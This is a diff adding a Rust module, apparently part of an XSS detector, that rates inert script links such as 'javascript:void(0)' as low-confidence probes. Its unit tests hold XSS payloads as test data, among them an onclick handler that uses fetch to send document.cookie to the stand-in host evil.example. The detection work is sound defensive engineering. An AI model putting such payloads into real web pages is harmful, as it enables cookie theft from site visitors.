@@ -1,0 +1,123 @@
+//! Script that does nothing: the code of `javascript:void(0)` links and of
+//! `onclick="return false;"` handlers that every saved page and rich-text editor writes.
+
+/// The confidence of a script URL or an event handler whose code is inert: a probe at
+/// `strict` (a user field holding an HTML attribute at all), nothing at `balanced`.
+pub(crate) const INERT: u8 = 40;
+
+/// Whether `code` is only statements that do nothing: empty statements, `void` of a literal
+/// (`void(0)`, `void 0`), `return` of a literal (`return false;`), a bare literal (`false`,
+/// `0`, `undefined`, `null`, `true`). Whitespace and `;` separate them; anything else (a name,
+/// a call, an operator) is not inert.
+pub(crate) fn inert_code(code: &str) -> bool {
+    code.split(';').all(|stmt| {
+        let t = stmt.trim_matches(|c: char| c.is_ascii_whitespace());
+        if t.is_empty() {
+            return true;
+        }
+        let t = t.strip_prefix("return").map_or(t, |r| if r.is_empty() || r.starts_with(|c: char| c.is_ascii_whitespace() || c == '(') { r.trim_start() } else { t });
+        let t = match t.strip_prefix("void") {
+            Some(r) if r.starts_with(|c: char| c.is_ascii_whitespace() || c == '(') => r.trim_start(),
+            Some(_) => return false,
+            None => t,
+        };
+        literal(t)
+    })
+}
+
+/// A literal, possibly parenthesised: a number, `true`, `false`, `null`, `undefined`, or
+/// nothing after a `return`.
+fn literal(t: &str) -> bool {
+    let mut t = t.trim();
+    while let Some(inner) = t.strip_prefix('(').and_then(|r| r.strip_suffix(')')) {
+        t = inner.trim();
+    }
+    t.is_empty()
+        || matches!(t, "true" | "false" | "null" | "undefined" | "!0" | "!1")
+        || (t.bytes().all(|c| c.is_ascii_digit()) && t.len() <= 10)
+}
+
+/// The code of a script URL (what follows the scheme's `:`), when the URL has no
+/// percent-encoding left to hide code behind.
+pub(crate) fn script_url_code(url: &str) -> Option<&str> {
+    let (_, code) = url.split_once(':')?;
+    (!code.contains('%')).then_some(code)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn inert_statements() {
+        for c in ["void(0)", "void 0", "void(0);", " return false; ", "return false", "return(false)", "", ";", "void 0; return false", "0", "undefined", "return"]
+        {
+            assert!(inert_code(c), "{c:?}");
+        }
+    }
+
+    #[test]
+    fn code_that_does_something_is_not_inert() {
+        for c in [
+            "alert(1)",
+            "void(alert(1))",
+            "void alert(1)",
+            "return confirm(1)",
+            "void(0);alert(1)",
+            "toggleMenu()",
+            "returnfalse",
+            "voidx",
+            "location='//evil.example'",
+            "return document.cookie",
+            "x=1",
+            "1e3",
+        ] {
+            assert!(!inert_code(c), "{c:?}");
+        }
+    }
+
+    fn confidence(s: &str) -> u8 {
+        use crate::{Detector, FieldKind, Input, Level};
+        super::super::XssDetector.check(&Input { raw: s, decoded: s, field: FieldKind::JsonValue }, Level::Strict).map_or(0, |h| h.confidence)
+    }
+
+    #[test]
+    fn inert_links_and_handlers_are_strict_probes_and_live_ones_are_attacks() {
+        for s in ["<p><a href=\"javascript:void(0)\">Show more</a></p>", "<a href=\"#\" onclick=\"return false;\">toggle</a>", "javascript:void(0)"] {
+            assert_eq!(confidence(s), INERT, "{s}");
+        }
+        for s in [
+            "<p><a href=\"javascript:alert(document.domain)\">Show more</a></p>",
+            "<a href=\"#\" onclick=\"return false;alert(1)\">x</a>",
+            "<a onclick=\"void(fetch('//evil.example/'+document.cookie))\">x</a>",
+            "javascript:alert(1)",
+        ] {
+            assert!(confidence(s) >= 60, "{s}");
+        }
+    }
+
+    #[test]
+    fn escaped_code_in_markup_is_text() {
+        use crate::engine::markup_document;
+        assert!(markup_document("<p>a</p>"));
+        assert!(markup_document("x <pre><code>&lt;b&gt;</code></pre>"));
+        assert!(!markup_document("&lt;script&gt;alert(1)&lt;/script&gt;"));
+        assert!(!markup_document("a < b and c </ d>"));
+        assert!(!markup_document("<x>&lt;img src=x onerror=alert(1)&gt;"));
+        let shown = "<p>Hmm</p><pre><code class=\"language-html\">&lt;script src=\"app.js\"&gt;&lt;/script&gt;</code></pre>";
+        assert_eq!(confidence(shown), 0, "{shown}");
+        // References alone (no markup around them) are still decoded: an application may.
+        assert!(confidence("&lt;script&gt;alert(1)&lt;/script&gt;") >= 60);
+        // Attribute values in markup are decoded as a browser does.
+        assert!(confidence("<p>x</p><a href=\"&#106;avascript:alert(1)\">y</a>") >= 60);
+        // Live markup beside the escaped code is still judged.
+        assert!(confidence("<pre>&lt;b&gt;</pre><script>alert(1)</script>") >= 60);
+    }
+
+    #[test]
+    fn code_of_a_script_url() {
+        assert_eq!(script_url_code("javascript:void(0)"), Some("void(0)"));
+        assert_eq!(script_url_code("javascript:%61lert(1)"), None);
+        assert_eq!(script_url_code("javascript"), None);
+    }
+}
